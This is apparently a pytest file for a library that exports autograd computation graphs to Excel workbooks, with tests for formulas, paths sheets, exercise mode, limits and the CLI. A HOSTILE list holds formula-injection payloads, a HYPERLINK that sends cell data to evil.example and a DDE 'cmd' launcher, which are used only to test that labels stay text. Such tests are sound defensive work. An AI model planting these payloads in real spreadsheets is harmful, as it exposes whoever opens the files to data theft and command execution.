"""viz.spreadsheet without a spreadsheet program: the formulas the rows write, the workbook's
shape, labels that stay text, answers absent from exercise files, limits, errors, the CLI.

The recalculation by LibreOffice (and the ``formulas`` package) is in
test_spreadsheet_recalc.py."""

from __future__ import annotations

import re
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from pathgrad.autograd import Value, ieee, sum_values, toposort, weighted_sum
from pathgrad.autograd.rules import ROWS
from pathgrad.viz import spreadsheet
from pathgrad.viz.cli import CHAIN, CHAIN_AT, main
from pathgrad.viz.sheet_exercise import AnswerCodes
from pathgrad.viz.sheet_formulas import FORMULA_MATH, cell
from pathgrad.viz.sheet_graph import MAX_FORMULA
from pathgrad.viz.spreadsheet import MAX_NODES, MAX_OPERANDS

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1)", "-2+3", "=1+1", "\tx\x00y"]
# every function a formula of ours may call: the primitive names and IF / OR / AND / NOT
FUNCTIONS = {"EXP", "LN", "SQRT", "TANH", "ABS", "SIN", "COS", "MAX", "IF", "OR", "AND", "NOT",
             "PRODUCT", "SUM", "ISNUMBER", "MOD", "INT", "LOG10", "ROUND"}


def chain() -> tuple[Value, dict[str, Value]]:
    """3Blue1Brown's one-neuron chain."""
    w, a_prev, b, y = (Value(v, label=n) for n, v in
                       (("w", 0.8), ("a_prev", 0.6), ("b", -0.2), ("y", 1.0)))
    z = w * a_prev + b
    z.label = "z"
    a = z.sigmoid()
    a.label = "a"
    C = (a - y) ** 2
    C.label = "C"
    return C, {"w": w, "a_prev": a_prev, "b": b, "y": y, "z": z, "a": a}


def rows(path: Path) -> list[tuple]:
    return list(openpyxl.load_workbook(path)["graph"].iter_rows(values_only=True))


def xml_of(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        return "\n".join(z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml"))


# ---- the formulas, written by the rows ------------------------------------------------------
def test_the_rows_write_their_formulas_over_cells() -> None:
    x, y, o = cell("D2"), cell("D3"), cell("D4")
    assert ROWS["tanh"].forward(FORMULA_MATH, x).text == "TANH(D2)"
    assert ROWS["log"].forward(FORMULA_MATH, x).text == "LN(D2)"
    assert ROWS["mul_c"].forward(FORMULA_MATH, x, -0.5).text == "D2*(-0.5)"
    assert ROWS["rsub_c"].forward(FORMULA_MATH, x, 1e-5).text == "1E-05-D2"
    assert str(ROWS["exp"].partials(FORMULA_MATH, o, x)[0]) == "D4"  # exp' reuses the output
    assert str(ROWS["relu"].partials(FORMULA_MATH, o, x)[0]) == "IF(D2>0,1,IF(D2<=0,0,D2))"
    assert ROWS["wsum"].forward(FORMULA_MATH, x, y, o, cell("D5"), cell("D6")).text == \
        "D6+D2*D4+D3*D5"
    softplus = ROWS["softplus"].forward(FORMULA_MATH, x).text
    assert softplus.startswith("MAX(D2,0)+IF(1+EXP(-ABS(D2))=1,") and "LN(1+EXP" in softplus


def test_unary_minus_is_parenthesised_as_excel_needs() -> None:
    # Excel and LibreOffice read -2^2 as (-2)^2 = 4 and ^ left to right: no operand may be
    # left to their precedence
    a, b = cell("A1"), cell("B1")
    assert str((-a) ** 2) == "(-A1)^2"
    assert str(-(a**2)) == "-(A1^2)"
    assert str(2.0 ** (-a)) == "2^(-A1)"
    assert str((a**b) ** 2) == "(A1^B1)^2"
    assert str(a ** (b**2)) == "A1^(B1^2)"
    assert str(a - (-b)) == "A1-(-B1)"
    assert str(a * -2.0) == "A1*(-2)"
    assert str(-a + b) == "-A1+B1"
    assert str(a - (b - a)) == "A1-(B1-A1)"
    assert str(a / (b * a)) == "A1/(B1*A1)"


def test_every_row_writes_formulas_with_spreadsheet_functions_only() -> None:
    operands = [cell("D2"), cell("D3"), cell("D4")]
    for name, rule in ROWS.items():
        args = operands[: rule.n_values or 3] + [2.5] * rule.n_consts
        texts = [str(rule.forward(FORMULA_MATH, *args))]
        texts += [str(r) for r in rule.partials(FORMULA_MATH, cell("D9"), *args)]
        called = {f for t in texts for f in re.findall(r"([A-Z][A-Z0-9]*)\(", t)}
        assert called <= FUNCTIONS, (name, called - FUNCTIONS)


def test_a_new_row_writes_its_formula_and_one_without_a_function_is_named(
        tmp_path: Path) -> None:
    from pathgrad.autograd.rules import FLOAT_MATH, Rule, register
    from pathgrad.autograd.value_math import VALUE_MATH

    cosh = register(Rule("cosh", lambda m, x: m.cosh(x), lambda m, o, x: (m.sinh(x),), 1))
    frob = register(Rule("frob", lambda m, x: m.frob(x), lambda m, o, x: (1.0,), 1))
    FLOAT_MATH.frob = lambda x: x  # the engine computes it; spreadsheets have no FROB
    try:
        x = Value(0.5, label="x")
        spreadsheet(x.cosh(), tmp_path / "cosh.xlsx")  # type: ignore[attr-defined]
        assert rows(tmp_path / "cosh.xlsx")[2][3:6] == ("=COSH(D2)", 1, "=SINH(D2)")
        with pytest.raises(ValueError, match=r"the row of 'frob\(x\)' \(op frob\) has no "
                           r"spreadsheet formula: .*no function 'frob'"):
            spreadsheet(x.frob(), tmp_path / "frob.xlsx")  # type: ignore[attr-defined]
    finally:
        for row in (cosh, frob):
            del ROWS[row.name]
            delattr(Value, row.name)
        for namespace in (VALUE_MATH, FLOAT_MATH, FORMULA_MATH):  # taken on first use
            for name in ("cosh", "sinh", "frob"):
                vars(namespace).pop(name, None)
    assert not (tmp_path / "frob.xlsx").exists()


# ---- the workbook ----------------------------------------------------------------------------
def test_the_first_sheet_has_a_row_per_value_in_topological_order(tmp_path: Path) -> None:
    C, _v = chain()
    spreadsheet(C, tmp_path / "c.xlsx")
    table = rows(tmp_path / "c.xlsx")
    assert table[0][:5] == ("node", "op", "operands", "data", "grad")
    assert [r[0] for r in table[1:]] == ["w", "a_prev", "w·a_prev", "b", "z", "a", "y", "a−y",
                                          "C"]
    by_name = {r[0]: r for r in table[1:]}
    assert by_name["w"][3] == 0.8 and by_name["w"][4] == "=E4*F4"
    assert by_name["z"][3] == "=D4+D5"
    assert by_name["a"][3].startswith("=IF(D6>=0,1/(1+EXP(-ABS(D6)))")
    assert by_name["C"][3] == "=D9^2" and by_name["C"][4] == 1
    assert by_name["C"][5] == "=2*D9^1"  # the row's c·x^(c−1)
    assert by_name["a−y"][4] == "=E10*F10"
    assert by_name["a−y"][5:7] == (1, -1)
    book = openpyxl.load_workbook(tmp_path / "c.xlsx")
    assert book.sheetnames == ["graph", "paths", "about"]
    assert book["graph"]["D2"].number_format == "0.0000"  # 4 significant figures of 0.8


def test_a_shared_node_sums_over_its_consumers_in_the_engines_order(tmp_path: Path) -> None:
    x = Value(0.5, label="x")
    y = (x * x).tanh() + x.exp()
    spreadsheet(y, tmp_path / "y.xlsx")
    by_name = {r[0]: r for r in rows(tmp_path / "y.xlsx")[1:]}
    # the reverse sweep reaches exp(x) (row 5) before x·x (row 3); x·x has two edges from x
    assert by_name["x"][4] == "=E5*F5+E3*F3+E3*G3"


def test_the_paths_sheet_lists_each_path_with_its_factors_as_cells(tmp_path: Path) -> None:
    x = Value(0.5, label="x")
    y = x * x + x
    spreadsheet(y, tmp_path / "p.xlsx", wrt=x)
    sheet = openpyxl.load_workbook(tmp_path / "p.xlsx")["paths"]
    table = list(sheet.iter_rows(values_only=True))
    assert table[1][:5] == ("∂x·x+x/∂x", "grad", "=graph!E2", "sum of the products below:",
                            "=SUM(C3:C5)")
    assert [r[2] for r in table[2:5]] == ["=PRODUCT(E3:F3)", "=PRODUCT(E4:F4)", "=PRODUCT(E5:E5)"]
    assert {r[4:6] for r in table[2:5]} == {("=graph!F3", "=graph!F4"), ("=graph!G3", "=graph!F4"),
                                            ("=graph!G4", None)}


def test_over_the_limit_the_paths_sheet_lists_the_largest_and_counts_the_rest(
        tmp_path: Path) -> None:
    x = Value(1.01, label="x")
    y = x
    for _ in range(8):  # y·y doubles the paths: 256
        y = y * y
    spreadsheet(y, tmp_path / "many.xlsx")
    table = list(openpyxl.load_workbook(tmp_path / "many.xlsx")["paths"].iter_rows(
        values_only=True))
    assert "the 100 largest by |product| of 256 paths: 156 left out" in table[1][5]
    assert len([r for r in table if isinstance(r[1], int)]) == 100


def test_default_wrt_takes_the_first_leaves_and_says_how_many_it_left(tmp_path: Path) -> None:
    leaves = [Value(0.1 * i, label=f"x{i}") for i in range(25)]
    spreadsheet(sum_values(leaves), tmp_path / "s.xlsx")
    table = list(openpyxl.load_workbook(tmp_path / "s.xlsx")["paths"].iter_rows(values_only=True))
    assert table[1][0].startswith("5 more leaves are not listed here")
    assert sum(1 for r in table if str(r[0]).startswith("∂")) == 20


# ---- labels are text, never formulas ----------------------------------------------------------
def test_hostile_labels_stay_text(tmp_path: Path) -> None:
    xs = [Value(0.3 + i, label=label) for i, label in enumerate(HOSTILE)]
    root = sum_values([x.tanh() for x in xs])
    root.label = HOSTILE[0]
    spreadsheet(root, tmp_path / "h.xlsx")
    book = openpyxl.load_workbook(tmp_path / "h.xlsx")
    labels = [c.value for c in book["graph"]["A"][1:]]
    clean = [h.replace("\x00", "\ufffd") for h in HOSTILE]
    assert [lab for lab in labels if lab in clean] == [*clean, clean[0]]
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                if isinstance(c.value, str) and c.data_type == "f":
                    called = set(re.findall(r"([A-Z][A-Z0-9]*)\(", c.value))
                    assert "HYPERLINK" not in c.value and "cmd" not in c.value
                    assert called <= FUNCTIONS, (c.coordinate, c.value)
    formulas = re.findall(r"<f>(.*?)</f>", xml_of(tmp_path / "h.xlsx"))
    assert formulas and not any("HYPERLINK" in f or "cmd" in f or "SUM(1)" in f
                                for f in formulas)


# ---- exercise mode ----------------------------------------------------------------------------
def test_the_answer_codes_forgive_the_last_digit_and_nothing_more() -> None:
    codes = AnswerCodes(seed=7)
    right = set(codes.of(-0.126638))
    assert codes.of(-0.1266)[1] in right and codes.of(-0.1267)[1] in right
    assert codes.of(-0.1265)[1] in right
    assert codes.of(-0.1269)[1] not in right and codes.of(0.1266)[1] not in right
    assert codes.of(-1.266)[1] not in right  # the exponent counts
    assert codes.of(9.9996)[1] in set(codes.of(10.0)) and codes.of(0.0)[1] in codes.of(3e-13)


@pytest.mark.parametrize("mode", [True, "rates"])
def test_an_exercise_file_holds_no_gradient(tmp_path: Path, mode: bool | str) -> None:
    import random

    rng = random.Random(5)
    leaves = [Value(rng.uniform(-1.5, 1.5), label=f"w{i}") for i in range(6)]
    h = [(leaves[i] * leaves[i + 1] + leaves[(i + 3) % 6]).tanh() for i in range(5)]
    root = (sum_values(h) - 0.3) ** 2
    spreadsheet(root, tmp_path / "ex.xlsx", exercise=mode)
    order = toposort(root)
    root.backward()
    shown = {n.data for n in order} | {0.3, 2.0, 1.0, -1.0}
    if mode is True:
        shown |= {r for n in order for r in n.local_grads}
    answers = [n.grad for n in order if not any(_near(n.grad, s) for s in shown)]
    if mode == "rates":
        answers += [r for n in order for r in n.local_grads
                    if not any(_near(r, s) for s in shown)]
    assert len(answers) >= 10
    text = xml_of(tmp_path / "ex.xlsx")
    numbers = [float(t) for t in re.findall(r"-?\d+(?:\.\d+)?(?:[eE][-+]?\d+)?", text)]
    leaked = [a for a in answers if any(_near(a, x) or _near(-a, x) for x in numbers)]
    assert leaked == []
    assert "codes" in openpyxl.load_workbook(tmp_path / "ex.xlsx").sheetnames
    assert openpyxl.load_workbook(tmp_path / "ex.xlsx")["codes"].sheet_state == "hidden"


def _near(a: float, b: float) -> bool:
    """Equal to 4 significant figures."""
    return abs(a - b) <= 5e-4 * max(abs(a), abs(b)) or (abs(a) < 1e-12 and abs(b) < 1e-12)


def test_exercise_mode_leaves_out_the_paths_sheet_unless_asked(tmp_path: Path) -> None:
    C, v = chain()
    spreadsheet(C, tmp_path / "a.xlsx", exercise=True)
    spreadsheet(C, tmp_path / "b.xlsx", exercise=True, wrt=v["w"])
    assert "paths" not in openpyxl.load_workbook(tmp_path / "a.xlsx").sheetnames
    assert "paths" in openpyxl.load_workbook(tmp_path / "b.xlsx").sheetnames


# ---- limits and errors ------------------------------------------------------------------------
def test_limits_are_refused_with_their_names(tmp_path: Path) -> None:
    x = Value(0.5, label="x")
    y = x
    for _ in range(MAX_NODES):
        y = y * 0.5
    with pytest.raises(ValueError, match=r"10,001 values, more than the 10,000 .*MAX_NODES"):
        spreadsheet(y, tmp_path / "big.xlsx")
    n = MAX_OPERANDS // 2 + 1
    z = weighted_sum([Value(0.1) for _ in range(n)], [Value(0.2) for _ in range(n)], x)
    with pytest.raises(ValueError, match=r"503 operands, more than the 500 .*MAX_OPERANDS"):
        spreadsheet(z, tmp_path / "wide.xlsx")
    s = x * 0.5
    for i in range(1000):  # x used by 1,001 operations
        s = s + x * (0.1 + i)
    with pytest.raises(ValueError, match=rf"grad formula of 'x' .* \({MAX_FORMULA:,}"):
        spreadsheet(s, tmp_path / "used.xlsx")
    with pytest.raises(ValueError, match=r"at most 20 \(MAX_WRT\)"):
        leaves = [Value(float(i)) for i in range(21)]
        spreadsheet(sum_values(leaves), tmp_path / "w.xlsx", wrt=leaves)
    deep = x
    for _ in range(300):
        deep = deep.sin()
    with pytest.raises(ValueError, match=r"300 rate factors, more than .* \(250\); pass wrt=\[\]"):
        spreadsheet(deep, tmp_path / "deep.xlsx")
    spreadsheet(deep, tmp_path / "deep.xlsx", wrt=[])
    assert not (tmp_path / "big.xlsx").exists() and (tmp_path / "deep.xlsx").exists()


def test_a_node_made_by_a_micrograd_closure_is_refused_by_name(tmp_path: Path) -> None:
    x = Value(0.5, label="x")
    out = Value(x.data * 3.0, (x,), "triple")
    out._backward = lambda: setattr(x, "grad", x.grad + 3.0 * out.grad)
    with pytest.raises(ValueError, match=r"'triple\(x\)' \(op triple\) was made by a "
                       r"micrograd-style _backward closure: it has no row"):
        spreadsheet(out.tanh(), tmp_path / "c.xlsx")
    assert not (tmp_path / "c.xlsx").exists()


def test_bad_arguments_get_clear_errors_and_leave_the_file(tmp_path: Path) -> None:
    C, _v = chain()
    target = tmp_path / "kept.xlsx"
    target.write_bytes(b"before")
    with pytest.raises(TypeError, match=r"root must be a Value, got 1.5 \(float\)"):
        spreadsheet(1.5, target)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match=r"writes \.xlsx files .* got '.*c\.ods'"):
        spreadsheet(C, tmp_path / "c.ods")
    with pytest.raises(ValueError, match=r"exercise must be False, True, 'grads' or 'rates'"):
        spreadsheet(C, target, exercise="yes")
    with pytest.raises(ValueError, match=r"wrt 'q' \(a leaf\) is not in the graph"):
        spreadsheet(C, target, wrt=Value(1.0, label="q"))
    with pytest.raises(TypeError, match=r"wrt must be a Value or a sequence of Values"):
        spreadsheet(C, target, wrt=3)  # type: ignore[arg-type]
    with ieee():
        bad = Value(float("inf"), label="big") * 2.0
    with pytest.raises(ValueError, match=r"the data of 'big' \(a leaf\) is inf"):
        spreadsheet(bad, target)
    (tmp_path / "d.xlsx").mkdir()
    with pytest.raises(ValueError, match="is a directory, not a regular file"):
        spreadsheet(C, tmp_path / "d.xlsx")
    assert target.read_bytes() == b"before"
    spreadsheet(C, target)
    assert target.read_bytes()[:2] == b"PK"


def test_without_openpyxl_the_error_says_what_to_install(tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    with pytest.raises(ImportError, match="pip install openpyxl"):
        spreadsheet(chain()[0], tmp_path / "c.xlsx")
    assert not (tmp_path / "c.xlsx").exists()


# ---- the command line -------------------------------------------------------------------------
def test_the_sheet_command_writes_the_workbook(tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "chain.xlsx"
    assert main(["sheet", CHAIN, "--at", *CHAIN_AT.split(), "--wrt", "w", "-o", str(out)]) == 0
    assert capsys.readouterr().out == f"wrote {out}\n"
    book = openpyxl.load_workbook(out)
    assert [r[0] for r in book["graph"].iter_rows(min_row=2, values_only=True)][-1] == "C"
    assert list(book["paths"].iter_rows(values_only=True))[1][0] == "∂C/∂w"
    ex = tmp_path / "ex.xlsx"
    assert main(["sheet", CHAIN, "--at", *CHAIN_AT.split(), "--exercise", "rates",
                 "-o", str(ex)]) == 0
    assert "codes" in openpyxl.load_workbook(ex).sheetnames


@pytest.mark.parametrize("args, code, message", [
    (["-o", "x.ods"], 2, r"\.ods is not a format pathgrad writes \(\.xlsx\)"),
    (["--exercise", "all", "-o", "x.xlsx"], 2, r"invalid choice: 'all'"),
    (["--wrt", "nope", "-o", "x.xlsx"], 2, r"--wrt nope: nope is not a name"),
])
def test_the_sheet_command_refuses_bad_input(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                             args: list[str], code: int, message: str) -> None:
    args = [str(tmp_path / a) if a.startswith("x.") else a for a in args]
    assert main(["sheet", CHAIN, "--at", *CHAIN_AT.split(), *args]) == code
    assert re.search(message, capsys.readouterr().err)
    assert list(tmp_path.iterdir()) == []
